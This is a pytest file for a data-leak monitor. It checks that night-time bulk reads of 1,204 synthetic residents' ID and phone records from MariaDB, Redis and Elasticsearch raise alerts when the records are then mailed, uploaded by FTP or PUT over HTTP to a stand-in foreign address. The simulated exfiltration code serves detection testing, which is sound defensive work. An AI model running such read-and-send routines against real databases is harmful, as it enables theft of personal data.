# The sentence by other ways: at night an account pulls 1,204 residents out of a real MariaDB, Redis
# or Elasticsearch, and mails them, puts them on somebody's file server or posts them. Each makes
# the same two alerts and one incident as PostgreSQL and HTTP do.
from __future__ import annotations

import csv
import datetime as dt
import ftplib
import io
import json
import smtplib
import threading
import urllib.request
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pymysql
import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.handlers import Sink
from command_line import tongguan
from elastic_server import ADMIN, ElasticServer
from free_port import free_port
from ftp_server import ACCOUNT, ftp_server
from mariadb_server import READER, MariaServer
from moved_traffic import between
from recorded_traffic import recording
from redis_server import find_redis, throw_away_redis

from operations.generated_people import people

RESIDENTS = 1_204
NIGHT = dt.datetime(2026, 11, 28, 2, 13, tzinfo=dt.timezone(dt.timedelta(hours=8)))
NAMES = ("name", "id_card", "mobile")
ABROAD = "203.0.113.9"
SECRET = "a-password-of-theirs"


def residents() -> list[tuple[str, str, str]]:
    made = people(RESIDENTS, np.random.default_rng(7))
    return list(zip(made.names, made.numbers, made.mobiles, strict=True))


def table() -> bytes:
    text = io.StringIO()
    csv.writer(text).writerows([NAMES, *residents()])
    return text.getvalue().encode()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "home"


@pytest.fixture
def recorded(tmp_path: Path) -> Callable[..., Path]:
    """Does something while the ports of these machines are recorded, at night."""

    def record(machines: dict[int, tuple[str, str]], act: Callable[[], object]) -> Path:
        shift = (NIGHT - dt.datetime.now(dt.UTC)).total_seconds()
        with recording(tmp_path / "lo.pcap", shift_s=shift, ports=frozenset(machines)):
            act()
        return between(tmp_path / "lo.pcap", machines)

    return record


def told(home: Path, capture: Path, user: str, *, to: str = ABROAD) -> dict:
    """The incident of a capture, once it is the one that it should be."""
    done = tongguan("monitor", "replay", capture, "--json", home=home)
    alerts = [json.loads(line) for line in done.out.splitlines()]
    assert {each["rule"] for each in alerts} == {"data.read-at-night", "data.sent-out"}, done.err
    for each in alerts:
        assert each["data"]["records"] == RESIDENTS
        assert each["entities"]["user"] == user
        assert {"cn.id18", "cn.mobile", "person.name"} <= set(each["data"]["labels"])
    shown = tongguan("monitor", "incidents", "--json", home=home)
    (incident,) = [json.loads(line) for line in shown.out.splitlines()]
    assert incident["data"]["persons"] == RESIDENTS
    assert to in incident["entities"]["destination"]
    assert f"{RESIDENTS:,} records of {RESIDENTS:,} persons" in incident["title"]
    kept = b"".join(path.read_bytes() for path in home.rglob("*") if path.is_file())
    assert not [number for _, number, _ in residents()[:50] if number.encode() in kept]
    assert SECRET.encode() not in kept
    found: dict = incident
    return found


@pytest.mark.mariadb
def test_rows_of_mariadb_that_are_mailed(
    mariadb: MariaServer, home: Path, recorded: Callable[..., Path]
) -> None:
    mariadb.create_database(
        "sentence",
        "create table resident (name varchar(40), id_card varchar(18), mobile varchar(11))",
    )
    with mariadb.connect("sentence") as admin, admin.cursor() as cursor:
        cursor.executemany("insert into resident values (%s, %s, %s)", residents())
    taker = Controller(Sink(), hostname="127.0.0.1", port=free_port())
    taker.start()

    def act() -> None:
        with pymysql.connect(
            host="127.0.0.1", port=mariadb.port, user=READER, password=mariadb.password,
            database="sentence", ssl_disabled=True,
        ) as session, session.cursor() as cursor:  # fmt: skip
            cursor.execute("SELECT name, id_card, mobile FROM `resident` WHERE name <> %s", ("王",))
        mail = EmailMessage()
        mail["From"], mail["To"], mail["Subject"] = "li@xa.gov.cn", "x@out.example", "as agreed"
        mail.set_content("see below")
        mail.add_attachment(table(), maintype="text", subtype="csv", filename="people.csv")
        with smtplib.SMTP("127.0.0.1", taker.port) as client:
            client.send_message(mail)

    inside = ("10.0.0.7", "10.0.0.3")
    try:
        capture = recorded({mariadb.port: inside, taker.port: ("10.0.0.7", ABROAD)}, act)
    finally:
        taker.stop()
    incident = told(home, capture, READER)
    evidence = "\n".join(incident["evidence"])
    assert 'SELECT name, id_card, mobile FROM "resident" WHERE name <> ?' in evidence
    assert "mail to out.example" in evidence
    traced = json.loads(tongguan("monitor", "trace", "in-", "--json", home=home).out)
    name = {each["id"]: each["name"] for each in traced["nodes"]}
    steps = {(name[each["source"]], each["verb"], name[each["target"]]) for each in traced["edges"]}
    assert ("mail to out.example", "reached", ABROAD) in steps
    assert any(verb == "fed" and end == "mail to out.example" for _, verb, end in steps)


def test_hashes_of_redis_that_are_put_on_a_file_server(
    home: Path, recorded: Callable[..., Path]
) -> None:
    program = find_redis()
    if program is None:
        pytest.skip("no Redis server here: scripts/redis.sh")
    with throw_away_redis(program) as redis, ftp_server(SECRET) as files:
        redis.cli(
            sent="".join(
                f"HSET resident:{n} "
                + " ".join(f'{name} "{cell}"' for name, cell in zip(NAMES, row, strict=True))
                + "\n"
                for n, row in enumerate(residents())
            )
        )

        def act() -> None:
            pulls = "".join(f"HGETALL resident:{n}\n" for n in range(RESIDENTS))
            redis.cli(sent=pulls, user="reader")
            with ftplib.FTP() as client:
                client.connect("127.0.0.1", files.port)
                client.login(ACCOUNT, SECRET)
                client.storbinary("STOR people.csv", io.BytesIO(table()))

        out = ("10.0.0.7", ABROAD)
        machines = {redis.port: ("10.0.0.7", "10.0.0.3"), files.port: out, files.passive: out}
        capture = recorded(machines, act)
    done = tongguan("monitor", "replay", capture, "--json", home=home)
    alerts = {each["rule"]: each for each in map(json.loads, done.out.splitlines())}
    assert set(alerts) == {"data.read-at-night", "data.sent-out"}, done.err
    # Each by the account that it was done by: one read, another was used at the other end.
    assert alerts["data.read-at-night"]["entities"]["user"] == "reader"
    assert alerts["data.sent-out"]["entities"]["user"] == ACCOUNT
    assert {each["data"]["records"] for each in alerts.values()} == {RESIDENTS}
    assert {each["data"]["persons"] for each in alerts.values()} == {RESIDENTS}
    assert "HGETALL resident:?" in alerts["data.read-at-night"]["evidence"][0]
    assert "STOR people.csv" in alerts["data.sent-out"]["evidence"][0]
    kept = b"".join(path.read_bytes() for path in home.rglob("*") if path.is_file())
    assert not [number for _, number, _ in residents()[:50] if number.encode() in kept]
    assert SECRET.encode() not in kept
    shown = tongguan("monitor", "incidents", "--json", home=home)
    (incident,) = [json.loads(line) for line in shown.out.splitlines()]
    # One machine read by the one and sent as much by the other: it is one thing, with both its parts.
    assert sorted(incident["alerts"]) == sorted(each["id"] for each in alerts.values())
    assert set(incident["entities"]["user"]) == {"reader", ACCOUNT}
    assert incident["entities"]["source"] == ["10.0.0.7"]
    assert incident["data"]["records"] == incident["data"]["persons"] == RESIDENTS
    assert {"cn.id18", "cn.mobile", "person.name"} <= set(incident["data"]["labels"])
    assert incident["data"]["level"] in ("general-3", "general-4")
    evidence = "\n".join(incident["evidence"])
    assert "HGETALL resident:?" in evidence
    assert "STOR people.csv" in evidence
    traced = json.loads(tongguan("monitor", "trace", "in-", "--json", home=home).out)
    name = {each["id"]: each["name"] for each in traced["nodes"]}
    steps = {(name[each["source"]], each["verb"], name[each["target"]]) for each in traced["edges"]}
    assert any(end == ABROAD for _, _, end in steps)
    assert any(verb == "fed" for _, verb, _ in steps), steps


class Taker(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_PUT(self) -> None:
        self.rfile.read(int(self.headers["content-length"]))
        self.send_response(201)
        self.send_header("content-length", "0")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Nothing."""


@pytest.fixture
def taker() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Taker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()
    server.server_close()


@pytest.mark.elasticsearch
def test_documents_of_elasticsearch_that_are_put_on_the_web(
    elasticsearch_server: ElasticServer, taker: int, home: Path, recorded: Callable[..., Path]
) -> None:
    server = elasticsearch_server
    server.fill("people-sentence", [dict(zip(NAMES, row, strict=True)) for row in residents()])

    def act() -> None:
        page = server.run("POST", "/people-sentence/_search?scroll=1m", {"size": 500})
        while page["hits"]["hits"]:
            asked = {"scroll": "1m", "scroll_id": page["_scroll_id"]}
            page = server.run("POST", "/_search/scroll", asked)
        request = urllib.request.Request(f"http://127.0.0.1:{taker}/x", table(), method="PUT")
        urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request).read()

    machines = {server.port: ("10.0.0.7", "10.0.0.3"), taker: ("10.0.0.7", ABROAD)}
    incident = told(home, recorded(machines, act), ADMIN)
    assert "scroll from people-sentence" in "\n".join(incident["evidence"])
